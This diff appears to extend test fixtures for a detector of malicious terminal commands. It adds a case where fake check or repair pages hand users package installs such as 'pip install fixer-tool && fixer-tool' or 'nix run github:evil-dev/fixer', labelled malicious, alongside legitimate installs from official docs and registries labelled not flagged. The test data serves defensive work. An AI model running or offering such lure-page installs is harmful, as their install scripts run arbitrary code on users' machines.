@@ -34,6 +34,11 @@ Techniques:
   dressed up as a check or a company, or by a page offering a fix with a package from elsewhere:
   blocked. Look-alikes: the same lines from the project's own docs or README, typed, and a
   local `go run .` from anywhere.
+- `package-install-from-lure-page` (neighbour): a package manager installing a package
+  (`pip install`, `npm i -g`, `npm create`, `cargo install`, `gem install`, `go install`, `nix
+  run`, `dotnet tool install`) handed over by such a page: its install scripts run as it
+  installs. Blocked; the same from the project's docs, a repair blog naming a registry package,
+  a local requirements file or `npm install` of the project itself stay quiet.
 - `own-proxy-from-wiki` (benign): `networksetup -setwebproxy … proxy.acme.example` and the GNOME
   equivalent from the company's own wiki (a page on the proxy's registrable domain): quiet. The
   lures beside it stay flagged: a stranger's proxy from that wiki, an address, a PAC script, the
@@ -239,6 +244,39 @@ OWN_RUNNERS = [
 ]
 for text, page in OWN_RUNNERS:
     add("package-runner-from-lure-page", text, "not_flagged", "any", "terminal", page)
+
+# ---- package-install-from-lure-page (neighbour) ------------------------------------------------
+INSTALLS = [
+    ("pip install fixer-tool && fixer-tool", CHECK),
+    ("python -m pip install --upgrade human-check", CHECK),
+    ("npm i -g teams-audio-fix", "https://teams-meeting-audio.example/join/123"),
+    ("npm create fixer@latest", CHECK),
+    ("cargo install fixer-tool && fixer-tool", CHECK),
+    ("gem install fixer && fixer", CHECK),
+    ("nix run github:evil-dev/fixer", CHECK),
+    ("go install update-host.example/fix@latest", "https://kb.example/troubleshoot/repair-audio"),
+    ("dotnet tool install -g fixer", "https://chrome-update-fix.example/"),
+]
+for text, page in INSTALLS:
+    add("package-install-from-lure-page", text, "malicious", "any", "terminal", page)
+OWN_INSTALLS = [
+    (
+        "python -m pip install requests==2.32.3",
+        "https://requests.readthedocs.io/en/latest/user/install/",
+    ),
+    ("npm install -g typescript@5.6", "https://www.typescriptlang.org/download/"),
+    ("go install golang.org/x/tools/gopls@latest", "https://go.dev/gopls/"),
+    ("cargo install ripgrep", "https://github.com/BurntSushi/ripgrep"),
+    ("uvx virtualenv-clean", "https://blog.example/2024/05/repair-broken-venv/"),
+    ("pip install -r requirements-dev.txt", CHECK),
+    ("npm install", CHECK),
+    ("pip install fixer-tool", None),
+    # a registry's own page of a package whose name is a check word
+    ("pip install captcha-solver-kit", "https://pypi.org/project/captcha-solver-kit/"),
+    ("npm i verify-human-widget", "https://www.npmjs.com/package/verify-human-widget"),
+]
+for text, page in OWN_INSTALLS:
+    add("package-install-from-lure-page", text, "not_flagged", "any", "terminal", page)
 
 # ---- own-proxy-from-wiki (benign) ---------------------------------------------------------------
 WIKI = "https://wiki.acme.example/it/proxy"
